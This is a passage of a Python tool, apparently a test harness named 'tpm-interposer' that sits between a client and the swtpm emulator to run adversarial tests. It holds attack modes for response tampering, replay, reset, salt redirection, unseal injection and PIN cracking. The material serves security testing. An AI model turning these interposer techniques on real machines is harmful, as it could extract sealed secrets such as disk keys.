            made.remove(session)  # continueSession clear: ended by the TPM
            out = tw.Reader(tw.Response(resp, 0x15E, 1).params).tpm2b()
            unsealed = out
            result = "unsealed"
        finally:
            for h in made:
                try:
                    self.transact(upstream, tw.build_command(0x165, params=tw.u32(h)))
                except (OSError, ConnectionError, TimeoutError):
                    break
            self.attack(attack="inject-unseal", result=result, needs_auth=self.inject_needs_auth, steps=steps)
            if unsealed is not None:
                item = {"command": "Unseal", "direction": "response", "session": None, "data": hx(unsealed),
                        "in_clear": True, "unsealed": hx(unsealed), "injected": True}
                self.findings.add("plaintexts", item)
            self.findings.write()

    def pump_ctrl(self, client):
        try:
            up = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            up.settimeout(self.args.timeout)
            up.connect(self.args.upstream + ".ctrl")
        except OSError as e:
            self.findings.add("errors", {"error": "ctrl connect: %s" % e})
            client.close()
            return
        socks = [client, up]
        waiting_since = None  # the client sent a request that swtpm has not answered yet
        try:
            while not self.stop.is_set():
                r, _, _ = select.select(socks, [], [], 0.5)
                for s in r:
                    data = s.recv(65536)
                    if not data:
                        return
                    (up if s is client else client).sendall(data)
                    waiting_since = time.monotonic() if s is client else None
                if waiting_since is not None and time.monotonic() - waiting_since > self.args.timeout:
                    self.findings.add("errors", {"error": "TimeoutError: control channel: no answer from swtpm"})
                    return
        except OSError:
            pass
        finally:
            client.close()
            up.close()

    def run(self):
        listen = self.args.listen
        ctrl = listen + ".ctrl"
        socks = []
        for path in (listen, ctrl):
            if os.path.lexists(path):
                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    raise SystemExit("tpm-interposer: %s exists and is not a socket" % path)
                os.unlink(path)  # a stale socket from an earlier run
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(path)
            s.listen(8)
            socks.append(s)
        rpipe, wpipe = os.pipe()

        def on_signal(signum, frame):
            self.stop.set()
            os.write(wpipe, b"x")
        signal.signal(signal.SIGTERM, on_signal)
        signal.signal(signal.SIGINT, on_signal)
        if self.args.pidfile:
            with open(self.args.pidfile + ".tmp", "w") as f:
                f.write("%d\n" % os.getpid())
            os.replace(self.args.pidfile + ".tmp", self.args.pidfile)
        self.findings.write()
        self.log("listening on %s (modes: %s)", listen, ",".join(self.args.mode))
        conn_id = 0
        threads = []
        try:
            while not self.stop.is_set():
                r, _, _ = select.select(socks + [rpipe], [], [])
                for s in r:
                    if s is rpipe:
                        continue
                    c, _ = s.accept()
                    if s is socks[0]:
                        conn_id += 1
                        t = threading.Thread(target=self.serve_client, args=(conn_id, c), daemon=True)
                    else:
                        t = threading.Thread(target=self.pump_ctrl, args=(c,), daemon=True)
                    t.start()
                    threads.append(t)
        finally:
            for s in socks:
                s.close()
            for path in (listen, ctrl):
                try:
                    os.unlink(path)
                except OSError:
                    pass
            for t in threads:
                t.join(timeout=2)
            for t in self.crack_threads:
                t.join(timeout=self.args.crack_timeout)
            self.findings.write()
            if self.record_file:
                self.record_file.close()
            if self.args.pidfile:
                try:
                    os.unlink(self.args.pidfile)
                except OSError:
                    pass
        return 0


def parse_args(argv):
    p = argparse.ArgumentParser(
        prog="tpm-interposer",
        description="TPM bus interposer between a swtpm-TCTI client and swtpm (tpmguard adversarial tests).",
        epilog="Drop answers the matched command with TPM_RC_RETRY (--drop-action retry, the default: the "
               "TPM has already executed the command, so a TSS that retries runs it twice and its session "
               "nonces go stale) or closes the client connection (--drop-action close). Replay stores the "
               "first successful response to CC and, from the Nth matching command on (every later one "
               "without N), forwards the command but answers with the stored response. Reset sends swtpm "
               "CMD_INIT on the upstream control channel after the Nth matching command was answered, "
               "then TPM2_Startup(CLEAR), then every PCR_Extend forwarded so far, verbatim (extends made "
               "in HMAC sessions cannot be replayed and show a failing rc in the findings). Mutate changes exactly "
               "one response per run (mutate.py): the Nth (--mutate-at) or the one --mutate-spec names.")
    p.add_argument("--listen", required=True, help="socket for the client (SOCK; SOCK.ctrl is the control channel)")
    p.add_argument("--upstream", required=True, help="swtpm's TPM socket (DIR/tpm.sock; .ctrl is appended)")
    p.add_argument("--mode", required=True,
                   type=lambda s: [m for m in s.split(",") if m],
                   help="comma-separated: " + ", ".join(MODES))
    p.add_argument("--substitute-first", type=int, metavar="N",
                   help="substitute: only the first N CreatePrimary answers (and ReadPublic and sessions of "
                        "the handles they returned); later keys pass genuine")
    p.add_argument("--findings", help="JSON findings file (rewritten after each command and at exit)")
    p.add_argument("--record", help="JSONL file of every command and response")
    p.add_argument("--pidfile")
    p.add_argument("--verbose", action="store_true", help="log to stderr")
    p.add_argument("--timeout", type=float, default=30.0, help="seconds to wait for upstream/partial messages")
    p.add_argument("--tamper", action="append", default=[], type=parse_tamper, metavar="CC:OFFSET:XORBYTE[:N]",
                   help="xor a byte of the response parameter area of every response to CC, or of its Nth "
                        "only (repeatable)")
    p.add_argument("--reset-after", type=lambda s: parse_cc_count(s, "--reset-after"), metavar="CC:N",
                   help="reset the TPM and replay its PCR extends after the Nth successful response to CC")
    p.add_argument("--drop", action="append", default=[], type=lambda s: parse_cc_count(s, "--drop"),
                   metavar="CC[:N]", help="drop the response to the Nth (default: every) command CC")
    p.add_argument("--drop-action", choices=("retry", "close"), default="retry")
    p.add_argument("--forge-rc", action="append", default=[], type=parse_forge_rc, metavar="CC:N:RC",
                   help="forge-rc: answer the Nth command CC with a well-formed error response RC")
    p.add_argument("--replay", action="append", default=[], type=lambda s: parse_cc_count(s, "--replay"),
                   metavar="CC[:N]")
    p.add_argument("--mutate-seed", type=int, default=0, help="mutate: the seed that picks the mutation")
    p.add_argument("--mutate-at", type=int, metavar="N",
                   help="mutate: the Nth response of the run (1-based, over all connections) is mutated")
    p.add_argument("--mutate-kind", choices=mt.KINDS, help="mutate: the kind of mutation (default: by seed)")
    p.add_argument("--mutate-spec", metavar="FILE",
                   help="mutate: JSON {seed, at, kind} re-read at every client connection; when it "
                        "changes, response counting starts again (one proxy serves many runs)")
    p.add_argument("--extend-before", action="append", default=[],
                   type=lambda s: parse_cc_count(s, "--extend-before"), metavar="CC[:N]",
                   help="extend-before: extend --extend-pcr just before the Nth (default: every) command CC")
    p.add_argument("--extend-pcr", type=int, default=11, help="extend-before: the PCR extended (default 11)")
    p.add_argument("--redirect-salt-to", type=lambda s: int(s, 0), default=0x81000001, metavar="HANDLE",
                   help="redirect-salt: the key StartAuthSession's tpmKey is pointed at (default 0x81000001)")
    p.add_argument("--redirect-salt-type", choices=("policy", "hmac", "any"), default="policy",
                   help="redirect-salt: which sessions (default: policy sessions)")
    p.add_argument("--swap-context-at", type=int, default=1, metavar="N",
                   help="swap-context: swap the Nth ContextLoad of a NULL-hierarchy object (default 1)")
    p.add_argument("--tamper-hmac", action="append", default=[], type=lambda s: parse_cc_count(s, "--tamper-hmac"),
                   metavar="CC[:N]", help="tamper-hmac: flip a bit of the response HMAC of the Nth (default: every) CC")
    p.add_argument("--wordlist", help="extra PIN candidates, one per line (after 0000-9999)")
    p.add_argument("--pin-salt", type=bytes.fromhex, metavar="HEX",
                   help="PIN salt: adds the PBKDF2-HMAC-SHA256(pin, salt, 10000) transforms (systemd >= 253)")
    p.add_argument("--crack-timeout", type=float, default=300.0,
                   help="seconds to wait at exit for a running PBKDF2 search")
    args = p.parse_args(argv)
    for m in args.mode:
        if m not in MODES:
            p.error("unknown mode %r (one of %s)" % (m, ", ".join(MODES)))
    if "record" in args.mode and not args.record:
        p.error("record mode needs --record FILE")
    if "tamper" in args.mode and not args.tamper:
        p.error("tamper mode needs --tamper CC:OFFSET:XORBYTE")
    if "reset" in args.mode and (not args.reset_after or args.reset_after[1] is None):
        p.error("reset mode needs --reset-after CC:N")
    if "forge-rc" in args.mode and not args.forge_rc:
        p.error("forge-rc mode needs --forge-rc CC:N:RC")
    if "drop" in args.mode and not args.drop:
        p.error("drop mode needs --drop CC[:N]")
    if "mutate" in args.mode and args.mutate_at is None and not args.mutate_spec:
        p.error("mutate mode needs --mutate-at N or --mutate-spec FILE")
    if "extend-before" in args.mode and not args.extend_before:
        p.error("extend-before mode needs --extend-before CC[:N]")
    if "tamper-hmac" in args.mode and not args.tamper_hmac:
        p.error("tamper-hmac mode needs --tamper-hmac CC[:N]")
    if "replay" in args.mode and not args.replay:
        p.error("replay mode needs --replay CC[:N]")
    if not os.path.exists(args.upstream):
        p.error("upstream socket %s does not exist" % args.upstream)
    return args


def main(argv=None):
    args = parse_args(sys.argv[1:] if argv is None else argv)
    return Proxy(args).run()


if __name__ == "__main__":
    sys.exit(main())
